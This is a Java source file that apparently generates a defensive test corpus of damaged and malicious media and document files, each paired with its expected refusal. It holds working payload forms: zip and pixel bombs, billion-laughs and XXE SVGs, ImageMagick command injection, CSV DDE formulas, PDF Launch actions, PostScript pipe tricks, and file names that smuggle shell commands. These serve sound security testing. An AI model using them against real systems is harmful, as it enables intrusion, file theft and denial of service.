package atelier.console;

import atelier.Shell;
import atelier.console.Fate.Kept;
import atelier.console.Fate.Marked;
import atelier.console.Fate.Paper;
import atelier.console.Fate.Partly;
import atelier.console.Fate.Picture;
import atelier.console.Fate.Refused;
import atelier.console.Fate.Sound;
import atelier.console.Fate.TurnedAway;
import atelier.media.HugePictures;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Set;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/// The broken and the malicious files of the [Corpus]. To be made last: some are parts of others.
final class CorpusTraps {
  private static final int SIDE = 30_000;
  private static final int BOMB_BYTES = 300 << 20;

  private final Corpus corpus;
  private final Canaries canaries;

  private CorpusTraps(Corpus corpus, Canaries canaries) {
    this.corpus = corpus;
    this.canaries = canaries;
  }

  static void make(Corpus corpus, Canaries canaries) throws IOException {
    var traps = new CorpusTraps(corpus, canaries);
    traps.broken();
    traps.misnamed();
    traps.bombs();
    traps.spyingPictures();
    traps.playlists();
    traps.spyingPapers();
    traps.programs();
    traps.names();
  }

  private void broken() throws IOException {
    String truncated = "truncated or damaged: could be read to ";
    corpus.write("empty.jpg", new TurnedAway("the file is empty"), "");
    corpus.write("empty.mp4", new TurnedAway("the file is empty"), "");
    corpus.write("zeros.jpg", new Refused("not a picture: "), new byte[5000]);
    corpus.write("zeros.mp3", new Refused("not a media file, or a damaged one"), new byte[5001]);
    corpus.write("zeros.docx", new Refused("no document that can be read"), new byte[5002]);
    corpus.cut("cut.jpg", new Refused("truncated JPEG: "), "plain.jpg", 0.4);
    corpus.cut("cut.png", new Refused("truncated PNG: "), "deep.png", 0.4);
    corpus.cut("cut.tif", new Refused("damaged TIFF: "), "lzw.tif", 0.4);
    corpus.cut("cut.webp", new Refused("damaged WebP: "), "lossless.webp", 0.4);
    corpus.cut("cut.heic", new Refused("damaged HEIF: "), "phone.heic", 0.4);
    corpus.cut("cut.psd", new Refused("truncated Photoshop: "), "layers.psd", 0.4);
    corpus.cut("cut.gif", new Refused("damaged GIF: "), "moving.gif", 0.1);
    corpus.cut("cut.tga", new Refused("damaged TGA: "), "elder.tga", 0.01);
    corpus.cut("cut.mp4", new Partly(Set.of("thumbnail", "poster"), truncated), "plain.mp4", 0.5);
    corpus.write(
        "cut index.mp4",
        new Refused("not a media file, or a truncated one: its index is missing"),
        Corpus.part(Files.readAllBytes(corpus.work().resolve("late index.mp4")), 0.7));
    corpus.cut("cut.wav", new Partly(Set.of("thumbnail"), truncated), "deep.wav", 0.5);
    corpus.cut("cut.flac", new Partly(Set.of("thumbnail"), truncated), "plain.flac", 0.5);
    corpus.cut("cut.pdf", new Refused("broken PDF: "), "letter.pdf", 0.5);
    corpus.cut("cut.docx", new Refused("broken document: "), "letter.docx", 0.5);
    corpus.cut("cut.xls", new Refused("broken document: "), "table.xls", 0.5);
    corpus.cut(
        "cut.dng",
        new Refused("a raw photograph without preview that cannot be developed"),
        "negative.dng",
        0.3);
    corpus.write(
        "nonsense.eps",
        new Refused("broken PostScript: /undefined in nonsense"),
        "%!PS-Adobe-3.0 EPSF-3.0\nnonsense\n");
    corpus.write(
        "nonsense.indd", new Partly(Set.of("preview"), "there is no preview in it"), "a letter");
    corpus.write("nonsense.ai", new Refused("not PostScript: "), "a letter of another kind");
    corpus.write("nonsense.cr2", new Refused("a raw photograph without preview"), "no photograph");
  }

  private void misnamed() throws IOException {
    corpus.write("really png.jpg", new Marked(600, 403), CorpusPictures.marks("png", 600, 403));
    corpus.write(
        "really jpeg.mp3",
        new Refused("no kind of film or sound that is read here: "),
        CorpusPictures.marks("jpg", 600, 404));
    corpus.write(
        "really wav.doc", new Sound(), Files.readAllBytes(corpus.work().resolve("other.wav")));
    corpus.write("really text.avi", new Paper(1, "Just words."), "Just words.\n".repeat(20));
    corpus.write("really nothing.bin", new Kept(), new byte[] {1, 2, 3, 4, 5, 6, 7, 8});
  }

  private void bombs() throws IOException {
    var tooLarge = new Refused("the picture says it is 30000 × 30000 pixels, 900 megapixels");
    corpus.write("bomb.png", tooLarge, pngBomb());
    corpus.write("bomb.tif", tooLarge, HugePictures.tiff(SIDE));
    // What its only frame covers counts.
    corpus.write("bomb.gif", new Picture(1, 1), gif(SIDE, 1));
    corpus.write("bomb.bmp", new Refused("truncated BMP: "), bmpBomb());
    corpus.write("bomb.psd", new Refused("truncated Photoshop: "), psdBomb());
    corpus.write("bomb.tga", new Refused("damaged TGA: "), tgaBomb());
    corpus.write("bomb.ppm", tooLarge, "P6\n30000 30000\n255\nfew");
    corpus.write(
        "bomb.svg",
        tooLarge,
        "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"30000\" height=\"30000\">"
            + "<rect width=\"9\" height=\"9\"/></svg>");
    corpus.write("laughs.svg", new Refused("damaged SVG: "), laughs());
    corpus.write("endless.gif", new Picture(40, 40), gif(40, 20_000));
    var unpacked =
        new Refused(
            "the document unpacks to more than 200 times its size, as only a ZIP bomb does");
    zip("bomb.docx", unpacked, "word/document.xml");
    zip("bomb.odt", unpacked, "content.xml");
    zip("bomb.xlsx", unpacked, "xl/workbook.xml");
    corpus.write("bomb.pdf", new Paper(1, ""), Corpus.pdf("0 0 9000000 9000000", "0 0 99 99 re f"));
  }

  private void spyingPictures() {
    corpus.write(
        "entity.svg",
        new Refused("damaged SVG: "),
        """
        <?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://%s">]>
        <svg xmlns="http://www.w3.org/2000/svg" width="90" height="90"><text y="20">&x;</text></svg>
        """
            .formatted(canaries.text()));
    corpus.write(
        "links.svg",
        new Picture(300, 200),
        """
        <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="200">
        <style>@import url("%1$s/style.css");</style>
        <image xlink:href="%1$s/x.png" width="90" height="90"/>
        <image xlink:href="file://%2$s" width="300" height="200"/><image href="%2$s" width="300" height="200"/>
        <use xlink:href="file://%2$s#x"/></svg>
        """
            .formatted(canaries.address(), canaries.picture()));
    var noPicture = new Refused("not a picture: the content is of no known format");
    corpus.write(
        "orders.jpg",
        noPicture,
        """
        push graphic-context
        viewbox 0 0 640 480
        image over 0,0 0,0 'text:%s'
        fill 'url(%s/x.jpg"|touch "%s)'
        pop graphic-context
        """
            .formatted(canaries.text(), canaries.address(), canaries.footprint()));
    corpus.write(
        "script.png",
        noPicture,
        "<image><read filename=\"%s/x.png\"/><write filename=\"%s\"/></image>"
            .formatted(canaries.address(), canaries.footprint()));
    corpus.write("metadata.djvu", noPicture, djvu());
  }

  private void playlists() {
    String film = canaries.film().toString();
    String address = canaries.address();
    String hls =
        """
        #EXTM3U
        #EXT-X-TARGETDURATION:9
        #EXT-X-MEDIA-SEQUENCE:%d
        #EXTINF:9,
        %s
        #EXTINF:9,
        %s
        #EXT-X-ENDLIST
        """;
    corpus.write("list.m3u8", new Kept(), hls.formatted(1, "file:" + film, address + "/1.ts"));
    corpus.write("hls.mp4", list("hls"), hls.formatted(2, address + "/2.ts", "file:" + film));
    corpus.write("hls.mp3", list("hls"), hls.formatted(4, film, "file:///etc/passwd"));
    corpus.write(
        "concat.m4v",
        list("concat"),
        "ffconcat version 1.0\nfile '%s'\nfile '%s/x.mp4'\n".formatted(film, address));
    corpus.write(
        "concat.mp3",
        list("concat"),
        "ffconcat version 1.0\nfile '%s/x.mp4'\nfile 'file:%s'\n".formatted(address, film));
    corpus.write(
        "dash.m4v",
        new Refused("not a media file"),
        """
        <?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"
        mediaPresentationDuration="PT9S"><Period><AdaptationSet><Representation id="1" bandwidth="1"
        mimeType="video/mp4"><BaseURL>%s/x.mp4</BaseURL></Representation></AdaptationSet></Period></MPD>
        """
            .formatted(address));
    corpus.write(
        "session.mp3",
        list("sdp"),
        """
        v=0
        o=- 0 0 IN IP4 127.0.0.1
        s=x
        c=IN IP4 127.0.0.1
        t=0 0
        m=video %d RTP/AVP 96
        a=rtpmap:96 H264/90000
        """
            .formatted(canaries.port()));
  }

  private static Refused list(String kind) {
    return new Refused("a list of other files (" + kind + "), which is not followed");
  }

  private void spyingPapers() throws IOException {
    corpus.write(
        "links.html",
        new Paper(1, "Spy"),
        """
        <!doctype html><html><head><link rel="stylesheet" href="%1$s/a.css"><base href="%1$s/"></head>
        <body background="file://%2$s"><p>Spy</p><img src="file://%2$s" width="200" height="200"><img src="%1$s/x.png">
        <iframe src="file://%3$s"></iframe><object data="file://%3$s"></object><embed src="file://%3$s"></body></html>
        """
            .formatted(canaries.address(), canaries.picture(), canaries.text()));
    corpus.write(
        "fields.rtf",
        new Paper(1, "Spy"),
        "{\\rtf1 Spy {\\field{\\*\\fldinst INCLUDETEXT \"%1$s\"}{\\fldrslt x}} {\\field{\\*\\fldinst INCLUDEPICTURE \"%2$s\" \\\\d}{\\fldrslt x}} {\\field{\\*\\fldinst INCLUDEPICTURE \"%3$s/x.png\"}{\\fldrslt x}}}"
            .formatted(canaries.text(), canaries.picture(), canaries.address()));
    corpus.write(
        "formulas.csv",
        new Paper(1, "Spy"),
        "Spy,1\n\"=WEBSERVICE(\"\"%1$s/x\"\")\",\"='file://%2$s'#$Sheet1.A1\"\n=cmd|' /C touch %3$s'!A0,2\n"
            .formatted(canaries.address(), canaries.text(), canaries.footprint()));
    corpus.write("links.odt", new Paper(1, "Spy"), flatText());
    corpus.write("links.ods", new Paper(1, "Spy"), flatSheet());
    linkedDocx();
    corpus.write(
        "actions.pdf",
        new Paper(1, ""),
        Corpus.pdf(
            "0 0 300 200",
            "0 0 99 99 re f",
            "/OpenAction <</S /Launch /F (/bin/touch) /Win <</F (touch) /P (%s)>> >> /AA <</O <</S /URI /URI (%s/)>> >>"
                .formatted(canaries.footprint(), canaries.address())));
  }

  private void programs() {
    corpus.write(
        "reader.eps",
        new Refused("broken PostScript: /invalidfileaccess in --file--"),
        "%%!PS-Adobe-3.0 EPSF-3.0\n%%%%BoundingBox: 0 0 300 50\n/Courier findfont 20 scalefont setfont 5 5 moveto (%s) (r) file 99 string readline pop show showpage\n"
            .formatted(canaries.text()));
    corpus.write(
        "piper.ai",
        new Refused("broken PostScript: /invalidfileaccess in --file--"),
        "%%!PS-Adobe-3.0\n(%%pipe%%touch %s) (w) file closefile showpage\n"
            .formatted(canaries.footprint()));
    corpus.write(
        "writer.eps",
        new Refused("broken PostScript: /invalidfileaccess in --file--"),
        "%%!PS-Adobe-3.0 EPSF-3.0\n(%s) (w) file (x) writestring showpage\n"
            .formatted(canaries.footprint()));
  }

  private void names() throws IOException {
    int height = CorpusPictures.HEIGHT + 10;
    for (String name :
        new String[] {
          "-rf",
          "-rf.jpg",
          "--help.jpg",
          "a 'single' \"double\" `back` $(touch x) ${HOME}.jpg",
          "new\nline and tab\t.jpg",
          "x..jpg",
          "x\\..\\..\\windows.jpg",
          "%2e%2e%2fescape.jpg",
          "😀 👩‍👩‍👧 e\u0301.jpg",
          "\u202egpj.exe.jpg",
          "[page=3].jpg",
          "%d.jpg",
          "a|touch footprint|.jpg",
          "; touch footprint;.jpg",
          "msl:x.jpg",
          "*?{a,b}~.jpg",
          "<script>alert(1)</script>.jpg".replace("/", "\u2215"),
          "x".repeat(246) + ".jpg",
        }) {
      height++;
      corpus.write(
          name,
          new Marked(CorpusPictures.WIDTH, height),
          CorpusPictures.marks("jpg", CorpusPictures.WIDTH, height));
    }
    Shell.run("mkfifo", corpus.file("endless pipe.jpg").toString());
  }

  /// 900 megapixels in a few bytes.
  private static byte[] pngBomb() throws IOException {
    var bytes = new ByteArrayOutputStream();
    bytes.write(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'});
    HugePictures.pngChunk(
        bytes,
        "IHDR",
        ByteBuffer.allocate(13).putInt(SIDE).putInt(SIDE).put(new byte[] {8, 6, 0, 0, 0}).array());
    var packed = new ByteArrayOutputStream();
    try (var deflater = new DeflaterOutputStream(packed)) {
      fill(deflater, 4 << 20);
    }
    HugePictures.pngChunk(bytes, "IDAT", packed.toByteArray());
    HugePictures.pngChunk(bytes, "IEND", new byte[0]);
    return bytes.toByteArray();
  }

  private static byte[] tgaBomb() {
    var bytes = ByteBuffer.allocate(18 + 100).order(ByteOrder.LITTLE_ENDIAN);
    bytes.put(2, (byte) 2).putShort(12, (short) SIDE).putShort(14, (short) SIDE);
    return bytes.put(16, (byte) 24).array();
  }

  private static byte[] bmpBomb() {
    var bytes = ByteBuffer.allocate(54 + 100).order(ByteOrder.LITTLE_ENDIAN);
    bytes.put(new byte[] {'B', 'M'}).putInt(Integer.MAX_VALUE).putInt(0).putInt(54);
    bytes.putInt(40).putInt(SIDE).putInt(SIDE).putShort((short) 1).putShort((short) 24);
    return bytes.array();
  }

  private static byte[] psdBomb() {
    var bytes = ByteBuffer.allocate(26 + 12 + 2);
    bytes.put("8BPS".getBytes(StandardCharsets.US_ASCII)).putShort((short) 1).position(12);
    bytes.putShort((short) 3).putInt(SIDE).putInt(SIDE).putShort((short) 8).putShort((short) 3);
    return bytes.array();
  }

  /// A canvas of that side, and so many frames of one pixel.
  private static byte[] gif(int side, int frames) throws IOException {
    var bytes = new ByteArrayOutputStream();
    bytes.write("GIF89a".getBytes(StandardCharsets.US_ASCII));
    var screen = ByteBuffer.allocate(7).order(ByteOrder.LITTLE_ENDIAN);
    bytes.write(screen.putShort((short) side).putShort((short) side).put((byte) 0x80).array());
    bytes.write(new byte[] {0, 0, 0, (byte) 255, (byte) 255, (byte) 255});
    for (int i = 0; i < frames; i++) {
      bytes.write(new byte[] {0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0});
    }
    bytes.write(0x3b);
    return bytes.toByteArray();
  }

  /// A scanned page whose annotation would be a command if it was taken for a program's text.
  private byte[] djvu() {
    byte[] note =
        "(metadata (Author \"\\\n\" . qx{touch %s} . \"\"))"
            .formatted(canaries.footprint())
            .getBytes(StandardCharsets.US_ASCII);
    var bytes = ByteBuffer.allocate(42 + note.length);
    bytes.put("AT&TFORM".getBytes(StandardCharsets.US_ASCII)).putInt(30 + note.length);
    bytes.put("DJVUINFO".getBytes(StandardCharsets.US_ASCII)).putInt(10);
    bytes.putShort((short) 300).putShort((short) 200).put(new byte[] {24, 0, 44, 1, 22, 1});
    bytes.put("ANTa".getBytes(StandardCharsets.US_ASCII)).putInt(note.length).put(note);
    return bytes.array();
  }

  /// Ten times ten times ten … of a word.
  private static String laughs() {
    var text = new StringBuilder("<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY a0 \"ha\">");
    for (int i = 1; i < 12; i++) {
      text.append("<!ENTITY a%d \"%s\">".formatted(i, ("&a" + (i - 1) + ";").repeat(10)));
    }
    return text
        + "]><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"90\" height=\"90\"><text y=\"20\">&a11;</text></svg>";
  }

  /// An office document one of whose parts becomes a thousand times as large.
  private void zip(String name, Fate fate, String part) throws IOException {
    try (var zip = new ZipOutputStream(Files.newOutputStream(corpus.place(name, fate)))) {
      if (name.endsWith("odt")) {
        zip.putNextEntry(new ZipEntry("mimetype"));
        zip.write("application/vnd.oasis.opendocument.text".getBytes(StandardCharsets.US_ASCII));
      } else {
        zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
        zip.write(
            "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>"
                .getBytes(StandardCharsets.US_ASCII));
      }
      zip.putNextEntry(new ZipEntry(part));
      fill(zip, BOMB_BYTES);
    }
  }

  private static void fill(OutputStream out, int count) throws IOException {
    byte[] block = new byte[1 << 20];
    for (int written = 0; written < count; written += block.length) {
      out.write(block);
    }
  }

  private String flatText() {
    return opendocument(
        "text",
        """
        <office:text><text:section text:name="s"><text:section-source xlink:href="file://%3$s" text:filter-name="Text"/>
        </text:section><text:p>Spy<draw:frame text:anchor-type="as-char" svg:width="5cm" svg:height="5cm">
        <draw:image xlink:href="file://%2$s" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame>
        <draw:frame text:anchor-type="as-char" svg:width="5cm" svg:height="5cm"><draw:image xlink:href="%1$s/x.png"/>
        </draw:frame></text:p></office:text>
        """);
  }

  private String flatSheet() {
    return opendocument(
        "spreadsheet",
        """
        <office:spreadsheet><table:table table:name="a"><table:table-source xlink:href="file://%3$s"
        table:filter-name="Text - txt - csv (StarCalc)"/><table:table-row><table:table-cell
        office:value-type="string"><text:p>Spy</text:p></table:table-cell><table:table-cell
        table:formula="of:=WEBSERVICE(&quot;%1$s/x&quot;)"/><table:table-cell
        table:formula="of:=DDE(&quot;soffice&quot;;&quot;%3$s&quot;;&quot;a.A1&quot;)"/></table:table-row></table:table>
        </office:spreadsheet>
        """);
  }

  private String opendocument(String kind, String body) {
    return """
    <?xml version="1.0" encoding="UTF-8"?>
    <office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
      xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"
      xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"
      xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"
      xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0"
      xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2"
      office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.%s">
    <office:body>%s</office:body></office:document>
    """
        .formatted(kind, body.formatted(canaries.address(), canaries.picture(), canaries.text()));
  }

  /// A letter whose picture and template lie elsewhere.
  private void linkedDocx() throws IOException {
    Path place = corpus.place("links.docx", new Paper(1, "Spy"));
    try (var zip = new ZipOutputStream(Files.newOutputStream(place))) {
      part(
          zip,
          "[Content_Types].xml",
          """
          <Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels"
          ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml"
          ContentType="application/xml"/><Override PartName="/word/document.xml"
          ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>
          <Override PartName="/word/settings.xml"
          ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/></Types>
          """);
      part(zip, "_rels/.rels", relations("officeDocument", "word/document.xml", "Internal"));
      part(
          zip,
          "word/_rels/document.xml.rels",
          relations(
              "image",
              "file://" + canaries.picture(),
              "External",
              "image",
              canaries.address() + "/x.png",
              "External",
              "settings",
              "settings.xml",
              "Internal"));
      part(
          zip,
          "word/_rels/settings.xml.rels",
          relations("attachedTemplate", canaries.address() + "/x.dotm", "External"));
      part(
          zip,
          "word/settings.xml",
          "<w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><w:attachedTemplate r:id=\"r0\"/></w:settings>");
      part(zip, "word/document.xml", linkedLetter());
    }
  }

  private static String linkedLetter() {
    String picture =
        """
        <w:r><w:drawing><wp:inline><wp:extent cx="1800000" cy="1800000"/><wp:docPr id="1" name="x"/><a:graphic>
        <a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr>
        <pic:cNvPr id="1" name="x"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="r%d"/><a:stretch>
        <a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="1800000" cy="1800000"/>
        </a:xfrm><a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>
        """;
    return """
        <w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"
        xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"
        xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"
        xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"
        xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><w:body><w:p><w:r><w:t>Spy</w:t></w:r>
        """
        + picture.formatted(0)
        + picture.formatted(1)
        + "</w:p></w:body></w:document>";
  }

  /// - Shape: three texts each: kind, target, mode.
  private static String relations(String... parts) {
    var text =
        new StringBuilder(
            "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">");
    for (int i = 0; i < parts.length; i += 3) {
      text.append(
          "<Relationship Id=\"r%d\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s\" Target=\"%s\" TargetMode=\"%s\"/>"
              .formatted(i / 3, parts[i], parts[i + 1], parts[i + 2]));
    }
    return text.append("</Relationships>").toString();
  }

  private static void part(ZipOutputStream zip, String name, String content) throws IOException {
    zip.putNextEntry(new ZipEntry(name));
    zip.write(content.getBytes(StandardCharsets.UTF_8));
  }
}
